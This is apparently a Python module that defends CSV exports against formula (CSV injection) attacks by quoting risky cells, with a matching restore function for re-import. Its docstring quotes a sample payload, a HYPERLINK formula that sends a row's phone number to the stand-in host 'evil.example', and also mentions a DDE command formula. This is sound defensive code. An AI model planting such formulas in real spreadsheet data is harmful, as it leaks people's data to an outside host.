"""CSV that a spreadsheet opens as data: no cell of a download is ever run as a formula.

A cell starting with ``=``, ``+``, ``-`` or ``@`` — or with a tab or carriage return, which
spreadsheets skip before looking — is evaluated when the file is opened (CSV injection): a
customer named ``=HYPERLINK("https://evil.example/?"&B2, "Open")`` would, in the hands of
whoever opens the export, send the row's phone number away, and ``=cmd|...`` runs a command
through DDE. So every CSV the suite writes goes through :func:`encode_csv`, which prefixes
such a cell with a single quote (OWASP's rule): the spreadsheet shows the text, without the
quote, and runs nothing. :func:`restore` takes that quote off again where the suite reads its
own export back (the customer import), so a file round-trips unchanged.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"


def _formula_behind_marks(cell: str) -> bool:
    return cell.lstrip(TEXT_MARK).startswith(FORMULA_STARTS)


def neutralise(cell: str) -> str:
    """``cell`` as a spreadsheet must read it: as text, never as a formula. A value that
    already looks marked (``'=x``) is marked once more, so :func:`restore` gives it back."""
    return TEXT_MARK + cell if _formula_behind_marks(cell) else cell


def restore(cell: str) -> str:
    """The value :func:`neutralise` was given (a cell it did not change is returned as is)."""
    if cell.startswith(TEXT_MARK) and _formula_behind_marks(cell):
        return cell[1:]
    return cell


def encode_csv(rows: Iterable[Iterable[str]]) -> bytes:
    """``rows`` as UTF-8 CSV lines (CRLF, quoted where needed), every cell neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerows([neutralise(cell) for cell in row] for row in rows)
    return buffer.getvalue().encode("utf-8")
